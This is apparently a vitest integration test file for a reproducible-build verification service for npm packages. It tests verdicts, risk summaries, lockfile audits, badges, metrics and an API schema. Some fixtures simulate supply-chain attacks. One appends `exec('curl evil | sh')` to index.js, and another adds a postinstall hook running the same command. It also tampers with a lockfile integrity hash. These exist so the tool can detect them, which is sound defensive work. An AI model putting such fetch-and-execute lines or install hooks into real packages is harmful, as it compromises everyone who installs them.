import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Ajv } from 'ajv';
import { execa } from 'execa';
import { makeGitPackage, packageJson } from '../fixtures/git-package.js';
import { publishFromGit } from '../fixtures/publish.js';
import { Farm, ROOT } from './farm.js';

const INDEX = `'use strict';\nmodule.exports = function greet(name) {\n  return 'hello ' + name;\n};\n`;

describe('verdicts on a farm of three workers (N=3, M=2)', () => {
  const farm = new Farm({ workers: 3, builders: 3, quorum: 2 });
  beforeAll(() => farm.start(), 120_000);
  afterAll(() => farm.stop(), 60_000);

  it('calls a package packed by the same toolchain from its git tag reproducible, byte for byte', async () => {
    // (and has no diff to show)
    const pkg = await makeGitPackage(join(farm.dir, 'src/greet'), { 'package.json': packageJson('greet', '1.0.0'), 'index.js': INDEX }, 'v1.0.0');
    const { integrity } = await publishFromGit(farm.registry, pkg, { how: 'image' });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/greet@1.0.0' });
    expect(view.verdict?.verdict).toBe('reproducible');
    expect(view.verdict?.agreeingCount).toBe(3);
    expect(view.rebuilds).toHaveLength(3);
    expect(new Set(view.rebuilds.map((r) => r.workerId)).size).toBe(3);
    for (const r of view.rebuilds) {
      expect(r.state).toBe('succeeded');
      expect(r.matchesPublished).toBe('bitwise');
      expect(r.source?.commit).toBe(pkg.commit);
      expect(r.source?.ref).toBe('v1.0.0');
      expect(r.imageDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
      expect(r.logUrl).toBeDefined();
    }
    expect(`sha512-${Buffer.from(view.published!.sha512, 'hex').toString('base64')}`).toBe(integrity);
  });

  it('calls a tarball packed by another npm and node equivalent, naming the stabilizers that were needed', async () => {
    // packed with Debian's Node 18 and npm 9 (another zlib), while the farm builds with the pinned
    // Node the registry names: the files are the same, the gzip stream is not
    const pkg = await makeGitPackage(join(farm.dir, 'src/greet-host'), { 'package.json': packageJson('greet-host', '2.0.0'), 'index.js': INDEX }, 'v2.0.0');
    await publishFromGit(farm.registry, pkg, { how: 'debian' });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/greet-host@2.0.0' });
    expect(view.verdict?.verdict).toBe('equivalent');
    expect(view.verdict?.stabilizers.length).toBeGreaterThan(0);
    expect(view.verdict?.stabilizers).toContain('gzip-level');
    for (const r of view.rebuilds) expect(r.matchesPublished).toBe('stabilized');
  });

  it('flags a tarball-only injection as mismatch while all builders agree with each other', async () => {
    const pkg = await makeGitPackage(join(farm.dir, 'src/xzlike'), { 'package.json': packageJson('xzlike', '5.6.0'), 'index.js': INDEX }, 'v5.6.0');
    await publishFromGit(farm.registry, pkg, { how: 'image', tamper: { file: 'index.js', append: "require('child_process').exec('curl evil | sh');\n" } });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/xzlike@5.6.0' });
    expect(view.verdict?.verdict).toBe('mismatch');
    expect(view.verdict?.agreeingCount).toBe(3);
    const digests = new Set(view.rebuilds.map((r) => r.artifact?.sha256));
    expect(digests.size).toBe(1);
    expect(view.verdict?.rebuiltSha256).toBe([...digests][0]);
    for (const r of view.rebuilds) expect(r.matchesPublished).toBe('no');
    // changed JavaScript is high risk, whatever the change
    expect(view.verdict?.risk).toMatchObject({ level: 'high', text: 'high risk: 1 JavaScript file changed (index.js)', changed: { count: 1, paths: ['package/index.js'] } });
    // the auditor's explanation: exactly the injected file and line
    const diff = await farm.json<{ added: unknown[]; removed: unknown[]; changed: { path: string; kind: string; unified?: string }[]; metadataOnly: unknown[] }>('GET', `/v1/releases/${view.id}/diff`);
    expect(diff.added).toEqual([]);
    expect(diff.removed).toEqual([]);
    expect(diff.changed.map((c) => [c.path, c.kind])).toEqual([['package/index.js', 'text']]);
    const changedLines = diff.changed[0]!.unified!.split('\n').filter((l) => /^[+-](?![+-]{2})/.test(l));
    // rebuilt → published: the tarball-only line shows as added
    expect(changedLines).toEqual(["+require('child_process').exec('curl evil | sh');"]);
    const cli = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'diff', 'pkg:npm/xzlike@5.6.0', '--server', farm.url], { reject: false });
    expect(cli.exitCode, cli.stderr).toBe(0);
    expect(cli.stdout).toContain('package/index.js');
    expect(cli.stdout).toContain("require('child_process').exec('curl evil | sh');");
  });

  it('summarizes the risk of a mismatch whose published tarball adds a postinstall script: high, signed in the VSA, shown by quorum status', async () => {
    const pkg = await makeGitPackage(join(farm.dir, 'src/hooked'), { 'package.json': packageJson('hooked', '2.0.1'), 'index.js': INDEX }, 'v2.0.1');
    // the tarball-only change: written after the tagged commit, so only the published tarball has it
    await writeFile(join(pkg.dir, 'package.json'), packageJson('hooked', '2.0.1', { scripts: { postinstall: "node -e \"require('child_process').exec('curl evil | sh')\"" } }));
    await publishFromGit(farm.registry, pkg, { how: 'image' });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/hooked@2.0.1' });
    expect(view.verdict?.verdict).toBe('mismatch');
    const risk = view.verdict?.risk;
    expect(risk).toMatchObject({
      level: 'high',
      text: 'high risk: install script postinstall added in package.json',
      changed: { count: 1, paths: ['package/package.json'] },
      onlyPublished: { count: 0, paths: [] },
      onlyRebuilt: { count: 0, paths: [] },
    });
    expect(risk?.flags).toEqual([{ code: 'install-script', level: 'high', message: 'install script postinstall added in package.json' }]);
    // the same summary is signed in the VSA, and the alarm carries it
    const att = await farm.json<{ vsa: { dsseEnvelope: { payload: string } }; answer: { alarms: { risk?: unknown }[] } }>('GET', `/v1/attestations/${encodeURIComponent('pkg:npm/hooked@2.0.1')}`);
    const statement = JSON.parse(Buffer.from(att.vsa.dsseEnvelope.payload, 'base64').toString('utf8')) as { predicate: { quorum: { risk?: unknown } } };
    expect(statement.predicate.quorum.risk).toEqual(risk);
    expect(att.answer.alarms[0]?.risk).toEqual({ level: 'high', text: risk!.text });
    const status = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/hooked@2.0.1', '--server', farm.url], { reject: false });
    expect(status.exitCode, status.stderr).toBe(2);
    expect(status.stdout).toMatch(/^risk: +HIGH — install script postinstall added in package\.json$/m);
    const json = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/hooked@2.0.1', '--json', '--server', farm.url], { reject: false });
    expect((JSON.parse(json.stdout) as { release: { verdict: { risk: unknown } } }).release.verdict.risk).toEqual(risk);
  });

  it('calls a mismatch low risk when the published tarball only has an extra CHANGELOG.md', async () => {
    const pkg = await makeGitPackage(join(farm.dir, 'src/chatty'), { 'package.json': packageJson('chatty', '1.4.0'), 'index.js': INDEX }, 'v1.4.0');
    await writeFile(join(pkg.dir, 'CHANGELOG.md'), '# 1.4.0\n\n- written after the release commit\n');
    await publishFromGit(farm.registry, pkg, { how: 'image' });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/chatty@1.4.0' });
    expect(view.verdict?.verdict).toBe('mismatch');
    expect(view.verdict?.risk).toEqual({
      level: 'low',
      text: 'low risk: only documentation differs (CHANGELOG.md only in the published tarball)',
      onlyPublished: { count: 1, paths: ['package/CHANGELOG.md'] },
      onlyRebuilt: { count: 0, paths: [] },
      changed: { count: 0, paths: [] },
      modeChanged: { count: 0, paths: [] },
      flags: [],
    });
    const status = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/chatty@1.4.0', '--server', farm.url], { reject: false });
    expect(status.exitCode, status.stderr).toBe(2);
    expect(status.stdout).toMatch(/^risk: +LOW — only documentation differs \(CHANGELOG\.md only in the published tarball\)$/m);
  });

  it('calls a build that writes the time and a random value into its output unreproducible', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/stamp'),
      {
        'package.json': packageJson('stamp', '0.3.0', { scripts: { build: 'node build.js' } }),
        'build.js': `require('fs').writeFileSync('stamp.json', JSON.stringify({ at: Date.now(), nonce: Math.random() }));\n`,
        'index.js': INDEX,
      },
      'v0.3.0',
    );
    await publishFromGit(farm.registry, pkg, { how: 'image' });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/stamp@0.3.0' });
    expect(view.verdict?.verdict).toBe('unreproducible');
    expect(new Set(view.rebuilds.map((r) => r.artifact?.stabilizedSha256)).size).toBe(3);
    // builder vs builder: only the stamped file differs
    const diff = await farm.json<{ changed: { path: string }[]; added: unknown[]; removed: unknown[] }>('GET', `/v1/releases/${view.id}/diff`);
    expect(diff.changed.map((c) => c.path)).toEqual(['package/stamp.json']);
    expect([diff.added, diff.removed]).toEqual([[], []]);
  });

  it('calls a release whose build fails failed, and keeps every log', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/broken'),
      { 'package.json': packageJson('broken', '1.0.1', { scripts: { build: 'node -e "console.error(\'compile error: missing semicolon\'); process.exit(3)"' } }), 'index.js': INDEX },
      'v1.0.1',
    );
    await publishFromGit(farm.registry, pkg, { how: 'host' });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/broken@1.0.1' });
    expect(view.verdict?.verdict).toBe('failed');
    for (const r of view.rebuilds) {
      expect(r.state).toBe('failed');
      expect(r.reason).toBe('build-error');
      const log = await (await farm.request('GET', r.logUrl!)).text();
      // run once more (a race in a project's build fails some runs only), and still failed: a build
      // that fails every time is never passed over
      expect(log).toContain('compile error: missing semicolon');
      expect(log.split('> broken@1.0.1 build').length - 1).toBe(2);
      expect(log).toMatch(/\[quorum\] the build exited with code 3; running it once more/);
      expect(log).toContain('FAILED (build-error)');
    }
  });

  it('pins a release with no matching tag to the commit that set its version, and a maintainer may still name the tag', async () => {
    const pkg = await makeGitPackage(join(farm.dir, 'src/untagged'), { 'package.json': packageJson('untagged', '3.1.4'), 'index.js': INDEX }, 'release-3.1.4');
    await publishFromGit(farm.registry, pkg, { how: 'debian' });
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/untagged@3.1.4' });
    // none of the version tags exists: the coordinator searched the history before any build
    expect(view.verdict?.verdict).toBe('equivalent');
    expect(view).toMatchObject({ canonical: true, source: { origin: 'registry', commit: pkg.commit, found: 'history' } });
    // a maintainer may still name the tag: an override verdict, labelled as such
    const again = await farm.submitAndDecide({ purl: 'pkg:npm/untagged@3.1.4', ref: 'release-3.1.4' });
    expect(again.verdict?.verdict).toBe('equivalent');
    expect(again).toMatchObject({ canonical: false, source: { origin: 'override', ref: 'release-3.1.4' } });
    const pkgView = await farm.json<{ releases: { id: string }[] }>('GET', `/v1/packages/${encodeURIComponent('pkg:npm/untagged@3.1.4')}`);
    expect(pkgView.releases.map((r) => r.id)).toEqual([again.id, view.id]);
  });

  it('lets the CLI submit, follow and report a verdict as JSON with exit code 0', async () => {
    // a scoped name exercises purl encoding from the CLI through the API to the registry
    const pkg = await makeGitPackage(join(farm.dir, 'src/cli-demo'), { 'package.json': packageJson('@demo/cli-demo', '1.2.3'), 'index.js': INDEX }, 'v1.2.3');
    await publishFromGit(farm.registry, pkg, { how: 'image' });
    const res = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'submit', 'pkg:npm/%40demo/cli-demo@1.2.3', '--wait', '--json', '--server', farm.url], { reject: false });
    expect(res.exitCode, res.stderr).toBe(0);
    const out = JSON.parse(res.stdout) as { verdict: string; rebuilds: unknown[] };
    expect(out.verdict).toBe('reproducible');
    expect(out.rebuilds).toHaveLength(3);
    const status = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/%40demo/cli-demo@1.2.3', '--json', '--server', farm.url], { reject: false });
    expect(status.exitCode).toBe(0);
    expect((JSON.parse(status.stdout) as { verdict: string }).verdict).toBe('reproducible');
  });

  it('serves what answers for a purl as a README badge: SVG, cached briefly, an alarm never hidden', async () => {
    const badge = async (purl: string, headers: Record<string, string> = {}) => farm.request('GET', `/v1/badges/${encodeURIComponent(purl)}.svg`, undefined, headers);
    const cases: [string, string][] = [
      ['pkg:npm/greet@1.0.0', 'reproducible'],
      ['pkg:npm/greet-host@2.0.0', 'equivalent'],
      ['pkg:npm/xzlike@5.6.0', 'mismatch'],
      ['pkg:npm/broken@1.0.1', 'failed'],
      ['pkg:npm/greet', 'reproducible'],
      ['pkg:npm/never-submitted@1.0.0', 'unknown'],
    ];
    for (const [purl, message] of cases) {
      const res = await badge(purl);
      expect(res.status, purl).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/svg+xml; charset=utf-8');
      expect(res.headers.get('cache-control')).toBe('public, max-age=300');
      const svg = await res.text();
      expect(svg.startsWith('<svg'), purl).toBe(true);
      // what a person reads on the badge (badge-maker writes it as the image's title too)
      expect(svg, purl).toContain(`<title>quorum: ${message}</title>`);
    }
    const first = await badge('pkg:npm/greet@1.0.0');
    const etag = first.headers.get('etag')!;
    expect(etag).toMatch(/^"[\w-]+"$/);
    expect((await badge('pkg:npm/greet@1.0.0', { 'if-none-match': etag })).status).toBe(304);
    expect((await badge('pkg:npm/greet@1.0.0', { 'if-none-match': `"other", W/${etag}` })).status).toBe(304);
    expect((await badge('not a purl')).status).toBe(400);
    // a qualifier could name another registry, whose release this verdict is not about
    expect((await badge('pkg:npm/greet@1.0.0?repository_url=https://elsewhere.example/')).status).toBe(400);

    // a newer honest version does not hide the alarm of an older one on the package's badge
    const pkg = await makeGitPackage(join(farm.dir, 'src/xzlike-next'), { 'package.json': packageJson('xzlike', '5.6.1'), 'index.js': INDEX }, 'v5.6.1');
    await publishFromGit(farm.registry, pkg, { how: 'image' });
    expect((await farm.submitAndDecide({ purl: 'pkg:npm/xzlike@5.6.1' })).verdict?.verdict).toBe('reproducible');
    expect(await (await badge('pkg:npm/xzlike@5.6.1')).text()).toContain('<title>quorum: reproducible</title>');
    expect(await (await badge('pkg:npm/xzlike')).text()).toContain('<title>quorum: mismatch</title>');
    expect((await farm.request('GET', `/v1/badges/${encodeURIComponent('pkg:npm/greet@1.0.0')}.png`)).status).toBe(404);
  });

  it('serves Prometheus metrics: live workers, queue depth, releases and verdicts, rebuild durations, HTTP latency by route', async () => {
    const res = await farm.request('GET', '/metrics');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/plain; version=0\.0\.4/);
    const text = await res.text();
    const value = (series: string): number => {
      const line = text.split('\n').find((l) => l.startsWith(`${series} `));
      if (line === undefined) throw new Error(`no series ${series} in:\n${text.slice(0, 3000)}`);
      return Number(line.slice(series.length + 1));
    };
    expect(value('quorum_workers{alive="true"}')).toBe(3);
    // every release of this file is decided by now: one of each verdict but unreproducible's own kind at least
    expect(value('quorum_releases{state="decided"}')).toBeGreaterThanOrEqual(6);
    for (const verdict of ['reproducible', 'equivalent', 'mismatch', 'unreproducible', 'failed']) expect(value(`quorum_verdicts{verdict="${verdict}"}`), verdict).toBeGreaterThanOrEqual(1);
    expect(value('quorum_rebuild_reports_total{outcome="succeeded"}')).toBeGreaterThanOrEqual(15);
    expect(value('quorum_rebuild_duration_seconds_count{outcome="failed"}')).toBeGreaterThanOrEqual(3);
    // by route pattern, never by purl
    expect(value('quorum_http_request_duration_seconds_count{method="GET",route="/v1/badges/:badge",status="200"}')).toBeGreaterThanOrEqual(7);
    expect(text).not.toContain('greet@1.0.0');
    const queues = text.split('\n').filter((l) => l.startsWith('quorum_worker_queue_jobs{'));
    expect(queues).toHaveLength(6);
  });
  it('audits a lockfile npm wrote against the verdicts: name, version and integrity; another artifact under a verified name is a mismatch', async () => {
    const quorum = (args: string[], cwd: string, env: Record<string, string> = {}) =>
      execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), ...args, '--server', farm.url], { cwd, reject: false, env: { QUORUM_SUBMIT_TOKEN: '', ...env } });
    // a release published and never submitted: unknown until --submit-missing queues it
    const fresh = await makeGitPackage(join(farm.dir, 'src/fresh'), { 'package.json': packageJson('fresh', '0.1.0'), 'index.js': INDEX }, 'v0.1.0');
    await publishFromGit(farm.registry, fresh, { how: 'image' });
    const app = join(farm.dir, 'audit-app');
    await mkdir(app, { recursive: true });
    await writeFile(join(app, 'package.json'), JSON.stringify({ name: 'audit-app', version: '1.0.0', dependencies: { greet: '1.0.0', 'greet-host': '2.0.0', xzlike: '5.6.1', fresh: '0.1.0' } }));
    // the consumer's own npm writes the lockfile from the registry
    await execa('npm', ['install', '--package-lock-only', '--ignore-scripts', '--no-audit', '--no-fund', `--registry=${farm.registry.url}/`, '--omit-lockfile-registry-resolved=false'], { cwd: app });

    const first = await quorum(['audit', '--json'], app);
    expect(first.exitCode, first.stderr).toBe(0);
    const report = JSON.parse(first.stdout) as { counts: Record<string, number>; entries: { purl: string; status: string; integrity: string; at: string }[] };
    const byPurl = Object.fromEntries(report.entries.map((e) => [e.purl, e]));
    expect(byPurl['pkg:npm/greet@1.0.0']).toMatchObject({ status: 'reproducible', integrity: 'match', at: 'node_modules/greet' });
    expect(byPurl['pkg:npm/greet-host@2.0.0']).toMatchObject({ status: 'equivalent', integrity: 'match' });
    expect(byPurl['pkg:npm/xzlike@5.6.1']).toMatchObject({ status: 'reproducible', integrity: 'match' });
    expect(byPurl['pkg:npm/fresh@0.1.0']).toMatchObject({ status: 'unknown', integrity: 'unchecked' });
    expect(report.counts).toMatchObject({ reproducible: 2, equivalent: 1, unknown: 1, mismatch: 0 });
    // what a person reads: the summary, and the release that needs a look
    const human = await quorum(['audit'], app);
    expect(human.stdout).toMatch(/reproducible 2 · equivalent 1 · mismatch 0 · unreproducible 0 · failed 0 · unknown 1/);
    expect(human.stdout).toMatch(/^unknown +pkg:npm\/fresh@0\.1\.0 +unchecked +never verified by this farm$/m);
    expect(human.stdout).toContain('3 verified releases not listed');
    // --strict: an unverified release fails the gate
    expect((await quorum(['audit', '--strict'], app)).exitCode).toBe(8);

    // --submit-missing needs a token, then queues exactly the release never seen
    expect((await quorum(['audit', '--submit-missing'], app)).exitCode).toBe(1);
    const queued = await quorum(['audit', '--submit-missing', '--json'], app, { QUORUM_SUBMIT_TOKEN: farm.submitToken });
    expect(queued.exitCode, queued.stderr).toBe(0);
    expect((JSON.parse(queued.stdout) as { submitted: string[] }).submitted).toEqual(['pkg:npm/fresh@0.1.0']);
    const freshView = await farm.json<{ releases: { id: string }[] }>('GET', `/v1/packages/${encodeURIComponent('pkg:npm/fresh@0.1.0')}`);
    expect((await farm.decided(freshView.releases[0]!.id)).verdict?.verdict).toBe('reproducible');
    expect((await quorum(['audit', '--strict'], app)).exitCode).toBe(0);

    // a lockfile edited to install another tarball under greet@1.0.0 (a lockfile injection)
    const lockPath = join(app, 'package-lock.json');
    const lock = JSON.parse(await readFile(lockPath, 'utf8')) as { packages: Record<string, { integrity?: string }> };
    lock.packages['node_modules/greet']!.integrity = `sha512-${createHash('sha512').update('evil tarball').digest('base64')}`;
    await writeFile(lockPath, JSON.stringify(lock, null, 2));
    const injected = await quorum(['audit'], app);
    expect(injected.exitCode).toBe(2);
    expect(injected.stdout).toMatch(/^mismatch +pkg:npm\/greet@1\.0\.0 +differs +the lockfile's integrity is not that of the artifact the farm verified \(reproducible\)/m);
    const sarif = JSON.parse((await quorum(['audit', '--sarif'], app)).stdout) as {
      version: string;
      runs: { results: { ruleId: string; level: string; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[] }[];
    };
    expect(sarif.version).toBe('2.1.0');
    const finding = sarif.runs[0]!.results.find((r) => r.ruleId === 'quorum/integrity-differs')!;
    expect(finding.level).toBe('error');
    const line = (await readFile(lockPath, 'utf8')).split('\n')[finding.locations[0]!.physicalLocation.region.startLine - 1];
    expect(line).toContain('"node_modules/greet"');
    expect(finding.locations[0]!.physicalLocation.artifactLocation.uri).toBe('package-lock.json');

    // a release whose published artifact differs from its rebuilds is a mismatch, with its risk
    const xz = await quorum(['audit', '--json', join(farm.dir, 'xz-lock')], app);
    expect(xz.exitCode).toBe(1);
    expect(xz.stderr).toMatch(/xz-lock: no such file or directory/);
    await mkdir(join(farm.dir, 'xz-lock'), { recursive: true });
    await writeFile(join(farm.dir, 'xz-lock/yarn.lock'), `# yarn lockfile v1\n\n\nxzlike@5.6.0:\n  version "5.6.0"\n  resolved "${farm.registry.url}/xzlike/-/xzlike-5.6.0.tgz"\n`);
    // pinned by nothing the farm can compare, and from a host the audit does not trust: from elsewhere
    const untrusted = await quorum(['audit', '--json', join(farm.dir, 'xz-lock')], app);
    expect(untrusted.exitCode).toBe(0);
    expect(JSON.parse(untrusted.stdout)).toMatchObject({ entries: [], unverifiable: [{ name: 'xzlike', why: expect.stringContaining('not a registry this audit trusts') }] });
    expect((await quorum(['audit', '--strict', join(farm.dir, 'xz-lock')], app)).exitCode).toBe(8);
    // the consumer's registry named: the release is the registry's, and its alarm shows
    const alarmed = await quorum(['audit', '--json', '--registry', farm.registry.url, join(farm.dir, 'xz-lock')], app);
    expect(alarmed.exitCode).toBe(2);
    expect((JSON.parse(alarmed.stdout) as typeof report & { entries: { risk?: { level: string } }[] }).entries[0]).toMatchObject({
      purl: 'pkg:npm/xzlike@5.6.0',
      status: 'mismatch',
      integrity: 'unchecked',
      risk: { level: 'high' },
    });

    // a project that locks no package: said in words, nothing asked of the coordinator
    await mkdir(join(farm.dir, 'empty-lock'), { recursive: true });
    await writeFile(join(farm.dir, 'empty-lock/package-lock.json'), JSON.stringify({ name: 'empty', lockfileVersion: 3, packages: { '': { name: 'empty' } } }));
    const empty = await quorum(['audit', '--strict', join(farm.dir, 'empty-lock')], app);
    expect(empty.exitCode).toBe(0);
    expect(empty.stdout).toContain('nothing to audit, the lockfile locks no package');

    // hostile requests are 4xx, never a crash
    expect((await farm.request('POST', '/v1/audit', { packages: 'all' })).status).toBe(400);
    expect((await farm.request('POST', '/v1/audit', { packages: Array.from({ length: 20_001 }, () => ({ purl: 'pkg:npm/a@1.0.0' })) })).status).toBe(400);
    const odd = await farm.json<{ entries: { status: string; note?: string }[] }>('POST', '/v1/audit', {
      packages: [{ purl: 'not a purl' }, { purl: 'pkg:pypi/requests@2.32.0' }, { purl: 'pkg:npm/greet' }],
    });
    expect(odd.entries.map((e) => [e.status, e.note])).toEqual([
      ['unknown', 'not a valid purl'],
      ['unknown', 'this farm rebuilds no pypi packages'],
      ['unknown', 'names no version'],
    ]);
  });
  it('describes its API in OpenAPI 3.1 generated from the routes, and every real answer fits its documented schema', async () => {
    const doc = await farm.json<{
      openapi: string;
      paths: Record<
        string,
        Record<string, { requestBody?: { content: Record<string, { schema: unknown }> }; responses: Record<string, { content?: Record<string, { schema: object }> }>; tags?: string[] }>
      >;
    }>('GET', '/openapi.json');
    expect(doc.openapi).toBe('3.1.0');
    // every public route is documented, with the schemas the routes validate with
    for (const [path, method] of [
      ['/v1/releases', 'post'],
      ['/v1/releases/{id}', 'get'],
      ['/v1/packages/{purl}', 'get'],
      ['/v1/audit', 'post'],
      ['/v1/badges/{badge}', 'get'],
      ['/v1/attestations/{purl}', 'get'],
      ['/v1/admin/workers', 'post'],
      ['/v1/workers/{id}/heartbeat', 'post'],
    ] as const) {
      expect(doc.paths[path]?.[method], `${method} ${path}`).toBeDefined();
    }
    const submitBody = doc.paths['/v1/releases']!.post!.requestBody!.content['application/json']!.schema as { required: string[]; properties: Record<string, { maxLength?: number }> };
    expect(submitBody.required).toEqual(['purl']);
    expect(submitBody.properties.purl!.maxLength).toBe(1000);

    // the answers of this farm (every kind of verdict was decided above) fit what the document says
    const ajv = new Ajv({ strict: false, allErrors: true });
    const check = (path: string, method: string, status: string, body: unknown) => {
      const schema = doc.paths[path]![method]!.responses[status]!.content!['application/json']!.schema;
      const validate = ajv.compile(schema);
      expect(validate(body), `${method} ${path} ${status}: ${ajv.errorsText(validate.errors)}`).toBe(true);
    };
    for (const purl of [
      'pkg:npm/greet',
      'pkg:npm/greet-host@2.0.0',
      'pkg:npm/xzlike',
      'pkg:npm/hooked@2.0.1',
      'pkg:npm/chatty@1.4.0',
      'pkg:npm/stamp@0.3.0',
      'pkg:npm/broken@1.0.1',
      'pkg:npm/untagged@3.1.4',
    ]) {
      const body = await farm.json<{ releases: { id: string }[] }>('GET', `/v1/packages/${encodeURIComponent(purl)}`);
      check('/v1/packages/{purl}', 'get', '200', body);
      for (const r of body.releases) check('/v1/releases/{id}', 'get', '200', await farm.json('GET', `/v1/releases/${r.id}`));
    }
    check('/v1/workers', 'get', '200', await farm.json('GET', '/v1/workers'));
    check('/v1/audit', 'post', '200', await farm.json('POST', '/v1/audit', { packages: [{ purl: 'pkg:npm/greet@1.0.0' }, { purl: 'pkg:npm/xzlike@5.6.0' }, { purl: 'nonsense' }] }));
    check('/v1/releases/{id}', 'get', '4XX', await (await farm.request('GET', '/v1/releases/nope')).json());

    // the docs page is served by the coordinator itself, assets included
    const page = await farm.request('GET', '/docs/');
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('swagger-ui');
    expect((await farm.request('GET', '/docs/static/swagger-ui-bundle.js')).status).toBe(200);
  });
});
